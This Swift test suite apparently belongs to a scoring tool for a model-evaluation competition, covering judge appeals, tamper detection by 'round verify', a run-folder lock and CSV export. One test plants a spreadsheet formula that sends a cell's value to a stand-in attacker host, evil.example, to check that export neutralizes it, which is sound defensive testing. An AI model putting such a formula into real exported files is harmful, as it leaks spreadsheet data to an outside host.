import Foundation
import GRDB
import SaimaBase
import SaimaTestSupport
import Testing

/// Appeals end to end through the real binary: template → import → re-score → verify → report, a malformed
/// sheet refused without changing anything, and edited records named by `round verify`.
@Suite("Appeals and the extraction audit", .serialized)
struct AppealsWorkflowTests {
    static func sheetRows(_ path: String) throws -> [[String]] {
        CSVTable.parse(try String(contentsOfFile: path, encoding: .utf8)).map(\.fields)
    }

    static func write(_ rows: [[String]], to path: String) throws {
        try ("\u{FEFF}" + rows.map { CSVTable.line($0, neutralizeFormulas: false) }.joined())
            .write(toFile: path, atomically: true, encoding: .utf8)
    }

    @Test func appealRoundTripReScoresVerifiesAndReports() async throws {
        let out = RoundWorkflowTests.temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: out) }
        #expect(try await SaimaBinary.run(["demo", "--out", out, "--quiet"], directory: SaimaBinary.repositoryRoot).status == 0)
        // The leaderboard carries the extraction audit for every team.
        let board = try RoundWorkflowTests.leaderboard(out)
        let entries = try #require(board["overall"]?["entries"]?.arrayValue)
        for e in entries {
            let audit = try #require(e["extraction"], "every team has an extraction audit")
            #expect((audit["answers"]?.numberValue ?? 0) > 0)
            #expect(audit["weak_rule_flag"]?.boolValue == false, "baselines answer in plain formats")
        }
        let template = try await SaimaBinary.run(
            ["appeals", "template", "--out", out, "--rules", "all", "--team", "random-guess"],
            directory: SaimaBinary.repositoryRoot)
        #expect(template.status == 0, "\(template.stderr)")
        let sheet = out + "/appeals/appeals.csv"
        var rows = try Self.sheetRows(sheet)
        let header = rows[0]
        #expect(header.starts(with: ["team", "track", "set", "item", "sample", "question", "choices", "reply"]))
        let col = { (name: String) in header.firstIndex(of: name)! }
        let choiceRows = rows.indices.dropFirst().filter { rows[$0][col("current_reading")].count == 1 }
        let target = try #require(choiceRows.first)
        let before = rows[target][col("current_reading")]
        let after = before == "A" ? "B" : "A"
        rows[target][col("judge_reading")] = after
        rows[target][col("judge")] = "张评委"
        rows[target][col("reason")] = "回答最后一行改选 \(after) / the reply's last line names \(after)"
        let filled = out + "/appeals/filled.csv"
        try Self.write(rows, to: filled)

        let imported = try await SaimaBinary.run(["appeals", "import", "--out", out, filled], directory: SaimaBinary.repositoryRoot)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(imported.stdout.contains("1 answer(s) re-read by judges"))
        // The export shows the judge's reading and its rule.
        let item = rows[target][col("item")]
        let export = try await SaimaBinary.run(["export", "--out", out], directory: SaimaBinary.repositoryRoot)
        let record = try #require(export.stdout.split(separator: "\n").compactMap { try? JSONValue.parse(String($0)) }
            .first { $0["team"]?.stringValue == "random-guess" && $0["item"]?.stringValue == item
                && $0["set"]?.stringValue == rows[target][col("set")] })
        // The judge read the letters the team saw; the stored reading is in the item's own letters.
        let shownOrder = record["choice_order"]?.stringValue.map(Array.init)
        let own = shownOrder.map { o in String(o[Int(after.first!.asciiValue! - 65)]) } ?? after
        #expect(record["extracted"]?.stringValue == own)
        #expect(record["rule"]?.stringValue == "judge_reading")
        // Verify checks the appeals chain and the recomputed scores, and counts the re-read answer.
        let verify = try await SaimaBinary.run(["round", "verify", "--out", out], directory: SaimaBinary.repositoryRoot)
        #expect(verify.status == 0, "\(verify.stderr)")
        #expect(verify.stdout.contains("1 answer(s) re-read by judges"))
        let html = try String(contentsOfFile: out + "/report.html", encoding: .utf8)
        #expect(html.contains("1 answers re-read by judges"))
        #expect(html.contains("张评委"))
        #expect(try RoundWorkflowTests.leaderboard(out)["appeals"]?["answers_re_read"]?.numberValue == 1)

        // A malformed sheet: every problem located, exit 1, nothing stored.
        var bad = rows
        bad[choiceRows[1]][col("judge_reading")] = "Z"
        bad[choiceRows[1]][col("judge")] = "李评委"
        bad[choiceRows[1]][col("reason")] = "x"
        bad[choiceRows[2]][col("judge_reading")] = "A"  // no judge, no reason
        let malformed = out + "/appeals/bad.csv"
        try Self.write(bad, to: malformed)
        let unterminated = out + "/appeals/unterminated.csv"
        try (try String(contentsOfFile: filled, encoding: .utf8) + "\"random-guess,legal\n").write(
            toFile: unterminated, atomically: true, encoding: .utf8)
        let refused = try await SaimaBinary.run(
            ["appeals", "import", "--out", out, malformed, unterminated], directory: SaimaBinary.repositoryRoot)
        #expect(refused.status == 1)
        let lines = CSVTable.parse(try String(contentsOfFile: malformed, encoding: .utf8)).map(\.line)
        #expect(refused.stderr.contains("bad.csv:\(lines[choiceRows[1]]): error: judge_reading `Z`"), "\(refused.stderr)")
        #expect(refused.stderr.contains("bad.csv:\(lines[choiceRows[2]]): error: judge is empty"))
        #expect(refused.stderr.contains("judge_reading `Z`"))
        #expect(refused.stderr.contains("judge is empty"))
        #expect(refused.stderr.contains("unterminated.csv:"))
        #expect(refused.stderr.contains("never closes"))
        let db = try DatabaseQueue(path: out + "/run.sqlite")
        #expect(try await db.read { try Int.fetchOne($0, sql: "SELECT COUNT(*) FROM reading_overrides") } == 1)

        // Edited records: a score, a supersession flag and the judge reading are all named by verify.
        try await db.write { db in
            try db.execute(sql: "UPDATE scores SET score = 1 WHERE team = 'random-guess' AND score = 0")
            try db.execute(sql: "UPDATE reading_overrides SET reading = 'C'")
        }
        let tampered = try await SaimaBinary.run(["round", "verify", "--out", out], directory: SaimaBinary.repositoryRoot)
        #expect(tampered.status == 1)
        #expect(tampered.stderr.contains("stored score(s) differ from the scores recomputed"))
        #expect(tampered.stderr.contains("judge reading of"))
    }
}

/// Issue 11 rows 15–17 through the real binary: a second writer is refused, exports neutralize formulas,
/// rating counts are validated.
@Suite("Records under a second process and hostile cells", .serialized)
struct RecordSafetyTests {
    @Test func row15ASecondWriterOfTheSameRunFolderIsRefused() async throws {
        let out = RoundWorkflowTests.temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: out) }
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
        // Hold the folder's lock in this process (the test runner), as another saima process would: flock(2) on
        // run.lock, close-on-exec so that no child inherits it. (A flock(1) child was seen to lose the lock under a
        // full parallel suite.)
        let fd = open(out + "/run.lock", O_RDWR | O_CREAT | O_CLOEXEC, 0o644)
        #expect(fd >= 0)
        #expect(flock(fd, LOCK_EX | LOCK_NB) == 0, "this test holds the lock")
        defer { close(fd) }
        let r = try await SaimaBinary.run(
            ["run", "--round", "r", "--team", "keyword-lab", "--track", "legal", "--out", out],
            directory: SaimaBinary.repositoryRoot)
        #expect(r.status != 0)
        #expect(r.stderr.contains("is being written by another saima process"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: out + "/run.sqlite"), "nothing was written")
    }

    @Test func row9EditedScoresAndFlippedSupersessionAreNamedByVerify() async throws {
        let out = RoundWorkflowTests.temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: out) }
        #expect(try await SaimaBinary.run(["demo", "--out", out, "--quiet"], directory: SaimaBinary.repositoryRoot).status == 0)
        #expect(try await SaimaBinary.run(["round", "verify", "--out", out], directory: SaimaBinary.repositoryRoot).status == 0)
        let db = try DatabaseQueue(path: out + "/run.sqlite")
        // The cheater's zero becomes a one: the leaderboard would change, verify must say so.
        try await db.write { try $0.execute(sql: "UPDATE scores SET score = 1 WHERE team = 'random-guess' AND score = 0") }
        let edited = try await SaimaBinary.run(["round", "verify", "--out", out], directory: SaimaBinary.repositoryRoot)
        #expect(edited.status == 1)
        #expect(edited.stderr.contains("stored score(s) differ from the scores recomputed"), "\(edited.stderr)")
        #expect(edited.stderr.contains("random-guess"))
        // Re-score honestly, then flip a supersession flag: the current answer must be the last one.
        #expect(try await SaimaBinary.run(["score", "--out", out], directory: SaimaBinary.repositoryRoot).status == 0)
        try await db.write { try $0.execute(sql: "UPDATE results SET superseded = 1 WHERE seq = 1") }
        let flipped = try await SaimaBinary.run(["round", "verify", "--out", out], directory: SaimaBinary.repositoryRoot)
        #expect(flipped.status == 1)
        #expect(flipped.stderr.contains("its superseded flag was changed"), "\(flipped.stderr)")
    }

    @Test func row16ExportNeutralizesFormulasAndRow17RatingsValidatesCounts() async throws {
        let out = RoundWorkflowTests.temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: out) }
        #expect(try await SaimaBinary.run(["demo", "--out", out, "--quiet"], directory: SaimaBinary.repositoryRoot).status == 0)
        let db = try DatabaseQueue(path: out + "/run.sqlite")
        try await db.write { db in
            try db.execute(sql: "UPDATE results SET content = CAST(? AS BLOB) WHERE seq = 1", arguments: [#"=HYPERLINK("http://evil.example/"&A1,"x")"#])
        }
        let csv = try await SaimaBinary.run(
            ["export", "--out", out, "--format", "csv", "--output", out + "/raw.csv"], directory: SaimaBinary.repositoryRoot)
        #expect(csv.status == 0)
        let text = try String(contentsOfFile: out + "/raw.csv", encoding: .utf8)
        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/""&A1,""x"")""#), "the formula is neutralized")
        #expect(!text.contains(#",=HYPERLINK"#) && !text.contains(#","=HYPERLINK"#))
        for bad in ["-1", "0"] {
            let r = try await SaimaBinary.run(
                ["ratings", "--battles", out + "/none.jsonl", "--bootstrap=\(bad)"], directory: SaimaBinary.repositoryRoot)
            #expect(r.status != 0)
            #expect(r.stderr.contains("--bootstrap must be from 100 to 100000"), "\(r.stderr)")
        }
    }
}
